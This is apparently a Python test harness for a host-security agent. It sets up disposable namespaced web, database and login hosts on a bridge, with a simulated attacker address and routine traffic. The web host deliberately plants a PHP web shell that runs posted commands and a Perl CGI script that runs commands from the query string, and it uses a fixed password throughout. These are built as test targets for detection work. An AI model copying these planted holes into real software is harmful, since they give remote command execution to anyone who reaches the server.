# SPDX-License-Identifier: GPL-2.0-or-later
"""estate - hosts of their own on one kernel: each a network, pid, mount and uts namespace over a copy of this machine's
files that is thrown away, an agent in it, and the daemons of its role. One server and a bridge between them.

    with Estate(options) as estate:
        web = estate.host("web1", Web)
        web.run("id")                    # in the host, as an administrator's shell would
        web.get("/php/index.php")        # from the network
"""
import glob, http.client, os, shutil, socket, subprocess, sys, tempfile, time, urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from harness import *

# The attacker comes from a network that nobody else is in.
NETWORK, SERVER, ATTACKER = "10.98.0", "10.98.0.1", "192.0.2.66"
PHP = next(iter(sorted(glob.glob("/usr/sbin/php-fpm*"))), None)
PG = next(iter(sorted(glob.glob("/usr/lib/postgresql/*/bin/initdb"), reverse=True)), None)
PASSWORD = "Secret99"

BOOT = r"""
set -e
hostname "$NAME"
mount -t tmpfs -o mode=755 tmpfs "$DIR"; cd "$DIR"; mkdir up work root
mount -t overlay overlay -o lowerdir=/,upperdir=up,workdir=work root; cd root
mkdir -p proc sys dev run tmp old
mount -t proc proc proc; mount -t sysfs -o ro sysfs sys
mount -t tmpfs -o mode=755 tmpfs run; mount -t tmpfs -o mode=1777 tmpfs tmp; mount -t tmpfs -o mode=1777 tmpfs var/tmp
mount -t tmpfs -o mode=755 tmpfs dev
for n in null zero full random urandom tty; do touch dev/$n; mount --bind /dev/$n dev/$n; done
mkdir dev/pts dev/shm; mount -t devpts -o newinstance,ptmxmode=0666,mode=620 devpts dev/pts; ln -s pts/ptmx dev/ptmx
mount -t tmpfs tmpfs dev/shm; ln -s /proc/self/fd dev/fd
mkdir -p "./$BUILT" "./$SITE"; mount --bind "$BUILT" "./$BUILT"; mount --bind "$SITE" "./$SITE"
rm -rf etc/cron.*/* var/spool/cron/crontabs/* var/log/nginx/*
pivot_root . old; umount -l /old
ip link set lo up
echo ready
exec perl -e '$SIG{CHLD} = sub { while (waitpid(-1, 1) > 0) {} }; sleep 1000 while 1'
"""


class Host:
    """What every host has: cron with a job, sshd with people who may log in, and an agent."""

    def __init__(self, estate, name, number):
        self.estate, self.name = estate, name
        self.address = f"{NETWORK}.{number}"
        self.dir = tempfile.mkdtemp(prefix=name + ".", dir=estate.dir)
        os.makedirs(f"{self.dir}/agent")
        self.proc = subprocess.Popen(
            ["unshare", "--pid", "--fork", "--kill-child", "--mount", "--uts", "--net", "--ipc", "--propagation", "private",
             "sh", "-c", BOOT], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=open(f"{self.dir}/boot", "w"), text=True,
            env=dict(os.environ, NAME=name, DIR=tempfile.mkdtemp(prefix="root.", dir=estate.dir), BUILT=os.path.realpath(BUILD),
                     SITE=estate.dir))
        if self.proc.stdout.readline() != "ready\n":
            skip_all(f"a host does not boot here: {open(self.dir + '/boot').read()[-300:]}")
        with open(f"/proc/{self.proc.pid}/task/{self.proc.pid}/children") as f:
            self.pid = int(f.read().split()[0])
        link = f"v{number}"
        estate.ip("link", "add", link, "type", "veth", "peer", "name", "eth0", "netns", str(self.pid))
        estate.ip("link", "set", link, "master", "br0", "up")
        self.run(f"ip address add {self.address}/24 dev eth0; ip link set eth0 up; ip route add {ATTACKER}/32 dev eth0")
        self.agent = None

    def run(self, command, check=True, **kw):
        """As what runs on the host's console: below no daemon."""
        r = subprocess.run(self.inside() + ["sh", "-c", command], capture_output=True, text=True, cwd="/", stdin=subprocess.DEVNULL, **kw)
        if check and r.returncode != 0:
            raise RuntimeError(f"{self.name}: {command}: {r.stdout}{r.stderr}")
        return r.stdout

    def inside(self):
        return ["nsenter", "-t", str(self.pid), "-p", "-m", "-u", "-n", "-i", "-r", "-w"]

    def write(self, path, text, mode=0o644):
        full = f"/proc/{self.pid}/root{path}"
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "w") as f:
            f.write(text)
        os.chmod(full, mode)

    def start(self):
        """The daemons, before the agent: what a host looks like when an agent comes to it."""
        self.write("/etc/crontab", "* * * * * root test -d /var/log && true\n")
        self.write("/usr/local/bin/tidy", "#!/bin/sh\nfind /var/tmp -type f -mtime +7 | wc -l >/var/tmp/tidy.count\n", 0o755)
        self.run("cron")
        self.start_sshd()

    def start_sshd(self):
        secret = subprocess.run(["openssl", "passwd", "-6", PASSWORD], capture_output=True, text=True, check=True).stdout.strip()
        self.run("".join(f"useradd -m -s /bin/bash -p '{secret}' {u};" for u in ("alice", "bob")) + f"usermod -p '{secret}' root;"
                 "ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/live_key; touch /var/log/auth.log; chmod 600 /var/log/auth.log; mkfifo -m 600 /run/sshd.log")
        # sshd -E writes bare lines; a syslog daemon puts a stamp in front of them as they come.
        self.write("/usr/local/sbin/stamp", """#!/usr/bin/perl
use POSIX 'strftime'; use Time::HiRes 'time';
open my $in, '+<', '/run/sshd.log' or die; open my $out, '>>', '/var/log/auth.log' or die;
while (<$in>) {
    my $t = time;
    syswrite $out, strftime('%Y-%m-%dT%H:%M:%S', gmtime $t) . sprintf('.%06d+00:00 %s sshd[1]: %s', 1e6 * ($t - int $t), $ENV{NAME}, $_);
}
""", 0o755)
        self.run(f"NAME={self.name} setsid /usr/local/sbin/stamp </dev/null >/dev/null 2>&1 &")
        self.serve_ssh()

    def serve_ssh(self):
        self.run("mkdir -p /run/sshd; setsid /usr/sbin/sshd -D -f /dev/null -h /etc/ssh/live_key -o UsePAM=no -o PermitRootLogin=yes -o LogLevel=INFO -o PidFile=/run/sshd.pid"
                 " -E /run/sshd.log -o MaxStartups=100 </dev/null >/dev/null 2>&1 &")
        wait(lambda: socket.create_connection((self.address, 22), 1).close() is None, 10)

    def ssh(self, user, command, password=PASSWORD, source=SERVER, timeout=30):
        """(what it said, whether it was let in)"""
        r = subprocess.run(["sshpass", "-p", password, "ssh", "-b", source, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                            "-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-o", "LogLevel=ERROR", f"{user}@{self.address}",
                            command], capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL)
        return r.stdout, r.returncode != 5 and r.returncode != 255

    def administer(self, command):
        """As root, who logs in from where administrators do."""
        return self.ssh("root", command, timeout=120)[0]

    def start_agent(self, options):
        a = Agent(self.estate.site, f"agent-{self.name}", {"server.address": f"{SERVER}:7443", **options}, ",".join(self.daemons))
        with open(a.token, "w") as f:
            f.write(self.estate.site.make_token())
        a.process = Process(self.inside() + [program("daemonsec-agent"), "-c", a.conf], os.path.join(a.dir, "log"))
        self.estate.site.agents.append(a)
        self.agent = a

    def stop_agent(self):
        self.run("kill -TERM $(pidof -s daemonsec-agent)")
        wait(lambda: self.agent.process.p.poll() is not None, 10)

    def reboot(self):
        """The agent stops as at a shutdown, the daemons end, and all of them come back."""
        self.stop_agent()
        self.run("kill -TERM $(ps -eo pid=,comm= | awk '$1 != 1 && $2 !~ /^(sh|ps|awk|perl|stamp)$/ { print $1 }')", check=False)
        wait(lambda: not self.run("pidof sshd cron nginx postgres", check=False).strip(), 10, 0.1)
        self.run("rm -f /run/*.pid /run/*.sock /run/php/*; cron")
        self.start_daemons()
        self.agent.process = Process(self.inside() + [program("daemonsec-agent"), "-c", self.agent.conf], os.path.join(self.agent.dir, "log"))

    def start_daemons(self):
        self.serve_ssh()

    def agent_pid(self):
        return int(self.run("pidof daemonsec-agent").split()[0])

    def request(self, method, path, body=None, source=SERVER, timeout=20, form=None):
        c = http.client.HTTPConnection(self.address, 80, timeout=timeout, source_address=(source, 0))
        try:
            headers = {"Content-Type": "application/x-www-form-urlencoded"} if form else {}
            c.request(method, path, urllib.parse.urlencode(form) if form else body, headers)
            r = c.getresponse()
            return r.status, r.read().decode(errors="replace")
        finally:
            c.close()

    def get(self, path, **kw):
        return self.request("GET", path, **kw)


class Web(Host):
    """nginx in front of php-fpm and fcgiwrap: an application that takes uploads, and holes that an attacker has found."""
    daemons = ["cron", "sshd", "nginx", "php-fpm", "fcgiwrap"]

    def start(self):
        super().start()
        self.write("/var/www/html/index.html", "static " * 100)
        self.write("/var/www/html/index.php", """<?php
$n = intval($_GET['n'] ?? 0); file_put_contents('/var/www/cache/page' . ($n % 5), str_repeat('x', $n));
echo strlen(file_get_contents('/etc/hostname')), ' hello ', $n;""")
        self.write("/var/www/html/upload.php", """<?php
file_put_contents('/var/www/uploads/' . md5(file_get_contents('php://input')) . '.jpg', 'x'); echo 'thanks';""")
        # The hole: a file that an attacker got uploaded, and that the server runs.
        self.write("/var/www/uploads/shell.php", """<?php
if (isset($_POST['c'])) { echo shell_exec($_POST['c']); } else { eval($_POST['e'] ?? ''); }""")
        self.write("/usr/lib/cgi-bin/app.cgi", """#!/usr/bin/perl
print "Content-Type: text/plain\\r\\n\\r\\n"; my $q = $ENV{QUERY_STRING};
if ($q =~ /^c=(.*)/) { my $c = $1; $c =~ s/%(..)/chr hex $1/ge; print `$c`; } else { print "hello\\n"; }""", 0o755)
        self.run("mkdir -p /var/www/cache /run/php; chown -R www-data /var/www/cache /var/www/uploads")
        self.write("/etc/php-live.conf", """[global]
pid = /run/php.pid
error_log = /var/log/php.log
[www]
user = www-data
listen = /run/php/php.sock
listen.owner = www-data
pm = static
pm.max_children = 3
""")
        self.write("/etc/nginx/nginx.conf", self.nginx_conf())
        self.serve()

    def start_daemons(self):
        super().start_daemons()
        self.serve()

    def serve(self):
        self.run(f"spawn-fcgi -s /run/cgi.sock -U www-data -u www-data -P /run/cgi.pid -F 2 /usr/sbin/fcgiwrap; {PHP} --fpm-config /etc/php-live.conf; /usr/sbin/nginx")

    @staticmethod
    def nginx_conf(more=""):
        fastcgi = "".join(f"fastcgi_param {k} {v};" for k, v in (
            ("QUERY_STRING", "$query_string"), ("REQUEST_METHOD", "$request_method"), ("CONTENT_TYPE", "$content_type"),
            ("CONTENT_LENGTH", "$content_length"), ("REMOTE_ADDR", "$remote_addr")))
        return f"""user www-data; worker_processes 2; pid /run/nginx.pid; error_log /var/log/nginx/error.log;
events {{}}
http {{ access_log /var/log/nginx/access.log; client_max_body_size 1m; server {{ listen 80; root /var/www/html;
  location ~ ^/uploads/.*\\.php$ {{ fastcgi_pass unix:/run/php/php.sock; fastcgi_param SCRIPT_FILENAME /var/www$uri; {fastcgi} }}
  location ~ \\.php$ {{ fastcgi_pass unix:/run/php/php.sock; fastcgi_param SCRIPT_FILENAME $document_root$uri; {fastcgi} }}
  location /cgi/ {{ fastcgi_pass unix:/run/cgi.sock; fastcgi_param SCRIPT_FILENAME /usr/lib/cgi-bin/app.cgi; {fastcgi} }}
}} {more} }}
"""

    def everyday(self, n):
        self.get("/index.html")
        self.get(f"/index.php?n={n % 97}")
        self.get("/cgi/?page=1")
        if n % 40 == 3:
            self.administer("tail -n 2 /var/log/nginx/access.log; df /")
        if n % 5 == 0:
            self.get("/missing")
            self.request("POST", "/upload.php", f"picture {n % 50}")


class Database(Host):
    """PostgreSQL, with an application that talks to it over the network."""
    daemons = ["cron", "sshd", "postgres"]

    def start(self):
        super().start()
        bin = os.path.dirname(PG)
        self.run(f"mkdir -p /srv/pg /run/pg /var/lib/postgresql/.ssh && chown postgres /srv/pg /run/pg /var/lib/postgresql/.ssh && setpriv --reuid=postgres --regid=postgres --init-groups "
                 f"{bin}/initdb -D /srv/pg/data -N -A trust >/dev/null && echo 'host all all {NETWORK}.0/24 trust' >>/srv/pg/data/pg_hba.conf ")
        self.serve()
        self.sql("create table t(id int primary key, x text); insert into t select i, 'x' from generate_series(1, 1000) i")

    def start_daemons(self):
        super().start_daemons()
        self.serve()

    def serve(self):
        self.run(f"setpriv --reuid=postgres --regid=postgres --init-groups {os.path.dirname(PG)}/pg_ctl -D /srv/pg/data -s -w -l /srv/pg/log "
                 "-o '-k /run/pg -c listen_addresses=* -F' start")

    def sql(self, text, timeout=20):
        r = subprocess.run(["psql", "-X", "-q", "-A", "-t", "-h", self.address, "-U", "postgres", "-d", "postgres", "-c", text],
                           capture_output=True, text=True, timeout=timeout)
        return r.stdout

    def everyday(self, n):
        self.sql(f"select x from t where id = {n % 1000}; update t set x = '{n}' where id = {n % 1000}")
        if n % 40 == 3:
            self.administer("ls /srv/pg; df /")
        if n % 7 == 0:
            self.sql("vacuum t; analyze t")


class Login(Host):
    """Where people log in to work."""
    daemons = ["cron", "sshd"]

    def everyday(self, n):
        self.ssh(("alice", "bob")[n % 2], ("ls -l /var/log", "ps aux | head -5", "tail -n 5 /var/log/dpkg.log; df -h /", "uptime; who")[n % 4])
        if n % 5 == 0:
            self.administer("ls /root; cat /proc/loadavg")


class Estate:
    def __init__(self, options=None, agent_options=None):
        self.dir = tempfile.mkdtemp(prefix="daemonsec-live.")
        os.chmod(self.dir, 0o755)
        self.hosts, self.agent_options = [], agent_options or {}
        os.makedirs(self.dir + "/site")
        self.ip("link", "add", "br0", "type", "bridge")
        for a in (SERVER, ATTACKER):
            self.ip("address", "add", a + "/24", "dev", "br0")
        self.ip("link", "set", "br0", "up")
        self.site = Site({"server.listen": f"{SERVER}:7443", **(options or {})}, dir=self.dir + "/site")

    def ip(self, *args):
        subprocess.run(["ip", *args], check=True)

    def host(self, name, kind):
        h = kind(self, name, 10 + len(self.hosts))
        self.hosts.append(h)
        return h

    def start(self):
        """The server, and the daemons of every host."""
        self.site.start()
        for h in self.hosts:
            h.start()

    def start_agents(self):
        """Agents come to hosts that run and work already."""
        for h in self.hosts:
            h.start_agent(self.agent_options)
        return wait(lambda: len(self.site.connected()) == len(self.hosts), 30, 0.1)

    def __enter__(self):
        return self

    def __exit__(self, kind, value, trace):
        if kind:
            for p in [a.process for a in self.site.agents] + [self.site.process]:
                say(f"--- {p.log}\n" + p.tail(30))
        for h in self.hosts:
            h.proc.kill()
        for h in self.hosts:
            h.proc.wait()
        self.site.close()
        shutil.rmtree(self.dir, ignore_errors=True)
